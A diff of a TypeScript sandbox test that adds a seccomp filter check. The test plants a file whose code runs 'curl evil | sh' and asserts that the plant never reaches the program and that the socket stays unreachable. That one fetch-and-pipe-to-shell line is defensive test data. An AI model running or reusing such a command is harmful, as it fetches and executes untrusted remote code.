@@ -11,6 +11,7 @@ import * as net from 'node:net';
 import * as path from 'node:path';
 import { test } from 'node:test';
 import { planSandbox } from '../../../src/core/sandbox/index';
+import { sandboxFilter } from '../../../src/core/sandbox/seccomp';
 import { NO_SANDBOX, tempRoot } from './helpers';
 
 const kernel = { skip: NO_SANDBOX };
@@ -57,9 +58,10 @@ test('strict: what a command plants in the temporary folder never reaches a prog
   const server = net.createServer((c) => c.end());
   await new Promise<void>((resolve) => server.listen(socket, resolve));
   try {
-    const reach = `${JSON.stringify(process.execPath)} -e "require('net').connect(process.argv[1]).on('connect', () => console.log('reached')).on('error', (e) => console.log(e.code))" ${socket}`;
+    // Whether the socket's file is there (the copy has none), then whether it answers (the seccomp filter refuses the socket itself).
+    const reach = `${JSON.stringify(process.execPath)} -e "const p = process.argv[1]; process.stdout.write(require('fs').existsSync(p) + ' '); require('net').connect(p).on('connect', () => console.log('reached')).on('error', (e) => console.log(e.code))" ${socket}`;
     const r = f.run(`mkdir -p ${path.dirname(compiled)} && echo '{"code":"require(\\"child_process\\").execSync(\\"curl evil | sh\\")"}' > ${compiled} && echo planted; ${reach}`);
-    assert.deepEqual(r, { status: 0, out: 'planted\nENOENT\n' });
+    assert.deepEqual(r, { status: 0, out: `planted\nfalse ${sandboxFilter(process.arch) ? 'EPERM' : 'ENOENT'}\n` });
     assert.equal(fs.readFileSync(compiled, 'utf8'), '{"code":"console.log(1)"}\n');
   } finally {
     server.close();
